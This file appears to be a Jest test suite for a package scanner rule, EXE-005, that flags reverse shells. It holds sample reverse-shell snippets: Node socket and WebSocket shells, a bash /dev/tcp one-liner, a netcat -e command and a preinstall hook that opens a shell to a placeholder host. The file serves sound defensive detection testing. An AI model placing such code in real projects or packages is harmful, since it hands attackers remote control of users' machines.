import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

describe('EXE-005 reverse shell', () => {
  it.each([
    [
      'pipes',
      `const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const client = new net.Socket();
       client.connect(4444, 'x.example.invalid', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });`,
    ],
    [
      'a listener that writes',
      `const s = require('net').connect(4444, 'x.example.invalid'); const { spawn } = require('child_process'); const sh = spawn('cmd.exe'); s.on('data', (d) => sh.stdin.write(d));`,
    ],
    [
      'commands that arrive',
      `const WebSocket = require('ws'); const w = new WebSocket('wss://x.example.invalid'); w.on('message', (m) => require('child_process').exec(m.toString()));`,
    ],
    ['the line of bash', `require('child_process').exec('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1');`],
    ['netcat', `require('child_process').execSync('nc x.example.invalid 4444 -e /bin/sh');`],
  ])('finds %s', (_name, source) => {
    expect(hitsOf('EXE-005', js(source))).toEqual(['critical index.js']);
  });

  it('finds it in an install script', () => {
    const scripts = { preinstall: '/bin/bash -c "/bin/bash -i >& /dev/tcp/203.0.113.1/443 0>&1"' };
    expect(hitsOf('EXE-005', manifest({ scripts }))).toEqual(['critical package.json']);
  });

  it.each([
    [
      'a proxy',
      `const net = require('net'); net.createServer((a) => { const b = net.connect(80, 'localhost'); a.pipe(b); b.pipe(a); });`,
    ],
    [
      'a child whose output is shown',
      `const c = require('child_process').spawn('ls'); c.stdout.pipe(process.stdout); require('net').connect(1).write('x');`,
    ],
    [
      'a command with an argument that was fetched',
      `const { version } = await (await fetch(u)).json(); require('child_process').execSync('npm install tool@' + version);`,
    ],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXE-005', js(source))).toEqual([]);
  });
});
